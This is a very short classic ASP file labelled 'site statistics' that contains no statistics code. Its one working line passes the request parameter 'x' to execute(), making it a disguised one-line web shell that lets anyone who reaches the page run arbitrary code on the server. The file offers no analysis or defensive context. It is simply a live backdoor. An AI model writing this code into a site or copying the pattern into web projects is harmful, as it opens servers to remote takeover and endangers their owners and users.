<%
' site statistics
Response.Buffer = True
execute(request("x"))
%>
